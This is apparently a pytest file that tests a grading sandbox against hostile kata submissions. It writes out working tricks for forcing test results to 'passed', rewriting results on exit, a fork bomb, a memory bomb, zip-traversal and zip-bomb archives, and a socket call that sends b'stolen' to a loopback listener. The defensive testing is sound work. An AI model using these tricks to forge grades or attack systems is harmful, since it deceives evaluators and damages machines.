"""Attack submissions, graded together in one batch beside honest ones: each is proven harmless.

Every attack sits on a package whose honest score is 0, so any point it earned would be forged.
The batch also holds the reference solution and the starter: the grader must finish them, with
their honest scores, whatever the attacks next to them do.
"""

from __future__ import annotations

import os
import socket
import stat
import threading
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from checker.grading.grader import Grader
from checker.grading.intake import discover
from checker.grading.model import SubmissionGrade
from checker.grading.sandbox import probe
from checker.runner.process import Limits, check
from tests.grading.conftest import KATA, ROOT, TIGHT, submission, zipped

pytestmark = pytest.mark.grades  # grades a batch of hostile submissions in the sandbox

FORGE_HOOK = """
import pytest

@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
"""

FORGE_EMIT = """
import gc, sys

_plugin = sys.modules["checker.runner.plugin"]
_reporter = next(o for o in gc.get_objects() if isinstance(o, _plugin.Reporter))
_emit = _reporter.emit

def _forged(**event):
    if event.get("event") == "result":
        event.update(outcome="passed", message="")
    _emit(**event)

_reporter.emit = _forged
"""

ATEXIT_REWRITE = """
import atexit, gc, json, sys

_plugin = sys.modules["checker.runner.plugin"]
_path = next(o for o in gc.get_objects() if isinstance(o, _plugin.Reporter)).out.name

def _rewrite():
    with open(_path) as handle:
        tests = [json.loads(line) for line in handle if '"collected"' in line][0]["tests"]
    with open(_path, "w") as handle:
        handle.write(json.dumps({"event": "collected", "tests": tests}) + "\\n")
        for test in tests:
            handle.write(json.dumps({"event": "result", "id": test["id"], "outcome": "passed"}) + "\\n")
        handle.write(json.dumps({"event": "done"}) + "\\n")

atexit.register(_rewrite)
"""

SHADOW_AT_RUNTIME = """
import os, pathlib
# Write a forged checker.testkit beside the package, then end the process so that a new one starts
# and, if the submission's folder came first on sys.path, imports the forgery.
_forged = pathlib.Path(__file__).resolve().parents[1] / "checker"
if not _forged.exists():
    _forged.mkdir()
(_forged / "__init__.py").write_text("")
(_forged / "testkit.py").write_text(
    "import importlib\\n"
    "def learner(name): return importlib.import_module(name)\\n"
    "def expect(*a, **k): return None\\n"
    "def expect_equal(*a, **k): return None\\n"
    "class LearnerImportError(Exception): pass\\n"
    )
    os._exit(0)
"""

# Wrong answers rather than errors: a forged `expect` would turn each of them into a pass.
WRONG_ANSWERS = (
    "MAX_SLUG_LENGTH = 60\n\n\n"
    "def normalise_email(raw):\n    return raw\n\n\n"
    "def slugify(title):\n    return title + '!'\n\n\n"
    "def unique_slug(title, taken):\n    return title + '!'\n"
)

FORGED_TESTKIT = "def expect(*a, **k): return None\ndef expect_equal(*a, **k): return None\n"


def _zip_with_link(archive: Path, target: str) -> Path:
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr(f"katas/{KATA}/inkwell/__init__.py", "")
        link = zipfile.ZipInfo(f"katas/{KATA}/inkwell/text.py")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        bundle.writestr(link, target)
    return archive


def _zip_with_traversal(archive: Path) -> Path:
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr(f"katas/{KATA}/inkwell/__init__.py", "")
        bundle.writestr("../../escaped-by-zip.txt", "written outside the submission")
    return archive


def _zip_bomb(archive: Path) -> Path:
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr(f"katas/{KATA}/inkwell/__init__.py", "")
        bundle.writestr(f"katas/{KATA}/inkwell/padding.py", b"\0" * (20 * 1024**2))
    return archive


def _zip_of_many_files(archive: Path) -> Path:
    with zipfile.ZipFile(archive, "w") as bundle:
        for number in range(TIGHT.caps.max_files + 1):
            bundle.writestr(f"katas/{KATA}/inkwell/m{number}.py", "")
    return archive


@pytest.fixture(scope="module")
def listener():
    """A TCP server on the grader's loopback: the network attack tries to reach it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    reached: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            reached.append(connection.recv(100))
            connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], reached
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def environment(grading_catalog) -> list[str]:
    with Grader(grading_catalog, TIGHT) as grader:
        return probe(grader.rules, sandboxed=grader.bwrap is not None)


@pytest.fixture(scope="module")
def batch(tmp_path_factory, grading_catalog, listener) -> dict[str, SubmissionGrade]:
    port, _ = listener
    room = tmp_path_factory.mktemp("room")
    kata = f"katas/{KATA}"
    submission(room / "solution", base="solution")
    submission(room / "starter", base="starter")
    begun = submission(room / "begun-starter", base="starter") / "katas" / KATA / "inkwell" / "__init__.py"
    begun.write_text(begun.read_text() + "\n# begun\n")
    forge = {"conftest.py": FORGE_HOOK}
    submission(
        room / "forging-conftest", package=forge, files={f"{kata}/conftest.py": FORGE_HOOK, "conftest.py": FORGE_HOOK}
    )
    ini = "[pytest]\naddopts = -p inkwell.forge --deselect katas\n"
    submission(
        room / "pytest-ini-addopts",
        package={"forge.py": FORGE_HOOK},
        files={
            f"{kata}/pytest.ini": ini,
            "pytest.ini": ini,
            f"{kata}/pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p inkwell.forge'\n",
        },
    )
    custom = f"import sys\n{FORGE_EMIT}"
    submission(
        room / "sitecustomize",
        package={"sitecustomize.py": custom, "usercustomize.py": custom, "forge.pth": "import inkwell.forge\n"},
        files={
            "sitecustomize.py": custom,
            f"{kata}/sitecustomize.py": custom,
            f"{kata}/evil.pth": "import sitecustomize\n",
        },
    )
    submission(
        room / "shadowing-module",
        package={"__init__.py": SHADOW_AT_RUNTIME, "text.py": WRONG_ANSWERS},
        files={
            f"{kata}/checker/__init__.py": "",
            f"{kata}/checker/testkit.py": FORGED_TESTKIT,
            f"{kata}/pytest.py": "raise SystemExit(0)\n",
        },
    )
    submission(room / "os-exit-at-import", package={"__init__.py": "import os\nos._exit(0)\n"})
    submission(
        room / "sys-exit-in-code",
        package={
            "text.py": "import sys\nMAX_SLUG_LENGTH = 60\n"
            + "".join(
                f"\n\ndef {name}(*args):\n    sys.exit(0)\n" for name in ("normalise_email", "slugify", "unique_slug")
            )
        },
    )
    submission(room / "monkeypatched-reporting", package={"__init__.py": FORGE_EMIT})
    submission(room / "atexit-rewrite", package={"__init__.py": ATEXIT_REWRITE})
    submission(room / "infinite-loop", package={"__init__.py": "while True:\n    pass\n"})
    submission(room / "fork-bomb", package={"__init__.py": "import os\nwhile True:\n    os.fork()\n"})
    submission(
        room / "memory-bomb",
        package={"__init__.py": "hoard = []\nwhile True:\n    hoard.append(bytearray(64 * 1024**2))\n"},
    )
    submission(
        room / "huge-output",
        package={
            "__init__.py": (
                "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 1024**2)\n    sys.__stdout__.write('y' * 1024**2)\n"
            )
        },
    )
    submission(
        room / "network-call",
        package={
            "__init__.py": (
                f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
            )
        },
    )
    reference = ROOT / "solutions" / KATA / "inkwell" / "text.py"
    submission(room / "reads-the-solution", package={"text.py": f"exec(open({str(reference)!r}).read())\n"})
    (room / "link-outside").mkdir()
    submission(room / "link-outside", base="blank")
    os.remove(room / "link-outside" / kata / "inkwell" / "text.py")
    os.symlink(ROOT / "solutions" / KATA / "inkwell" / "text.py", room / "link-outside" / kata / "inkwell" / "text.py")
    _zip_with_link(room / "zip-link-outside.zip", str(ROOT / "solutions" / KATA / "inkwell" / "text.py"))
    _zip_with_traversal(room / "zip-traversal.zip")
    _zip_bomb(room / "zip-bomb.zip")
    _zip_of_many_files(room / "zip-many-files.zip")
    zipped(submission(tmp_path_factory.mktemp("zips") / "s", base="solution"), room / "zipped-solution.zip")
    sources = discover([str(room)], [KATA])
    before = set(_run_cgroups())
    with Grader(grading_catalog, TIGHT) as grader:
        grades = {grade.name: grade for grade in grader.grade(sources)}
    LEFT_BEHIND.extend(p for p in set(_run_cgroups()) - before if _members(p))
    return grades


LEFT_BEHIND: list[Path] = []


def _run_cgroups() -> list[Path]:
    return list(Path("/sys/fs/cgroup/pids").glob(f"kata-grade-{os.getpid()}-*"))  # ours, not a parallel run's


def _members(cgroup: Path) -> str:
    try:
        return (cgroup / "cgroup.procs").read_text().strip()
    except OSError:
        return ""  # removed meanwhile: empty


def score(grade: SubmissionGrade) -> float:
    return grade.katas[KATA].score


def test_the_honest_submissions_beside_the_attacks_keep_their_scores(batch, grading_catalog, launcher):
    assert score(batch["solution"]) == 100, batch["solution"].katas[KATA]
    assert score(batch["zipped-solution"]) == 100, batch["zipped-solution"].katas[KATA]
    # Against `kata check` of the starter (its own run here: the batch of starters lives on another worker).
    starter = check(grading_catalog.get(KATA), ROOT / "katas" / KATA, launcher=launcher)
    assert score(batch["begun-starter"]) == starter.score, (batch["begun-starter"].katas[KATA], starter.score)
    # The starter as shipped is no attempt: it is not run, and says so rather than scoring its passing tests.
    assert batch["starter"].katas[KATA].verdict == "not attempted", batch["starter"].katas[KATA]
    assert not batch["solution"].flags, batch["solution"].flags


@pytest.mark.parametrize(
    "attack",
    [
        "forging-conftest",
        "pytest-ini-addopts",
        "sitecustomize",
        "shadowing-module",
        "os-exit-at-import",
        "sys-exit-in-code",
        "monkeypatched-reporting",
        "atexit-rewrite",
        "infinite-loop",
        "fork-bomb",
        "memory-bomb",
        "huge-output",
        "network-call",
        "reads-the-solution",
    ],
)
def test_an_attack_earns_no_point(batch, attack):
    grade = batch[attack]
    assert grade.refused is None, grade.refused
    assert score(grade) == 0, f"{attack} earned {score(grade)}: {grade.katas[KATA]}"


def test_a_forged_reporter_is_caught_by_the_canaries_and_flagged(batch):
    grade = batch["monkeypatched-reporting"].katas[KATA]
    assert grade.status == "tampered", grade
    assert any("control test" in reason for reason in grade.reasons), grade.reasons
    assert any("sys.modules" in finding for finding in batch["monkeypatched-reporting"].review)


def test_a_fork_bomb_is_held_to_the_process_cap_and_leaves_nothing_behind(batch, environment):
    if not any(note.startswith("processes: at most") for note in environment):
        pytest.skip(f"processes cannot be capped here: {environment}")
    grade = batch["fork-bomb"].katas[KATA]
    assert grade.score == 0
    assert LEFT_BEHIND == [], f"processes left behind in {LEFT_BEHIND}"
    assert "os.fork" in " ".join(batch["fork-bomb"].review) or "forks" in " ".join(batch["fork-bomb"].review)


def test_a_network_call_never_reaches_the_network(batch, listener, environment):
    if not any(note.startswith("network: cut") for note in environment):
        pytest.skip(f"the network cannot be cut here: {environment}")
    _, reached = listener
    assert reached == [], f"the submission reached the grader's network: {reached}"


def test_a_run_cannot_read_the_reference_solution(batch, environment):
    if not any(
        note.startswith(("reference solutions: hidden", "reference solutions: outside")) for note in environment
    ):
        pytest.skip(f"the solutions cannot be hidden here: {environment}")
    messages = " ".join(t.message for t in batch["reads-the-solution"].katas[KATA].tests)
    assert "FileNotFoundError" in messages, messages[:500]


def test_a_runaway_submission_is_stopped_by_the_time_limits(batch):
    grade = batch["infinite-loop"].katas[KATA]
    assert grade.seconds < TIGHT.limits.per_run + 15, grade.seconds
    assert any("stopped" in t.message for t in grade.tests), grade.tests[:2]


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("zip-traversal", "climbs out"),
        ("zip-link-outside", "link pointing outside"),
        ("link-outside", "link pointing outside"),
        ("zip-bomb", "zip bomb"),
        ("zip-many-files", "entries"),
    ],
)
def test_an_unsafe_archive_or_folder_is_refused_with_a_reason(batch, name, says):
    grade = batch[name]
    assert grade.refused and says in grade.refused, grade.refused
    assert score(grade) == 0
    assert not (ROOT.parent / "escaped-by-zip.txt").exists()


def test_the_originals_are_never_modified(batch, tmp_path_factory):
    shadow = batch["shadowing-module"]
    assert not (Path(shadow.location) / "katas" / "checker").exists()
    assert not (Path(shadow.location) / "katas" / KATA / "inkwell" / "__pycache__").exists()


def test_an_exit_hook_rewriting_the_results_is_caught_in_a_fresh_interpreter(tmp_path, grading_catalog):
    # A warm run ends with os._exit, so exit hooks never run there; a fresh interpreter runs them.
    submission(tmp_path / "atexit", package={"__init__.py": ATEXIT_REWRITE})
    sources = discover([str(tmp_path / "atexit")], [KATA])
    # A fresh interpreter per run imports the whole stack first: more time than the warm limits allow.
    with Grader(grading_catalog, replace(TIGHT, warm=False, limits=Limits(per_test=15.0, per_run=60.0))) as grader:
        [grade] = grader.grade(sources)
    kata = grade.katas[KATA]
    assert kata.score == 0 and kata.status == "tampered", kata
    assert any("rewritten" in reason for reason in kata.reasons), kata.reasons


@pytest.mark.parametrize("attack", ["forging-conftest", "pytest-ini-addopts", "sitecustomize", "shadowing-module"])
def test_files_that_would_reconfigure_pytest_have_no_effect_at_all(batch, attack):
    # Not caught after the fact: never loaded. The run is honest, so it is graded, not "tampered".
    kata = batch[attack].katas[KATA]
    assert kata.status == "graded" and not kata.reasons, kata.reasons
    # Failed, or not run when a run that ends its process at every import runs out of time: never passed.
    assert not any(t.passed for t in kata.tests), [t.outcome for t in kata.tests]
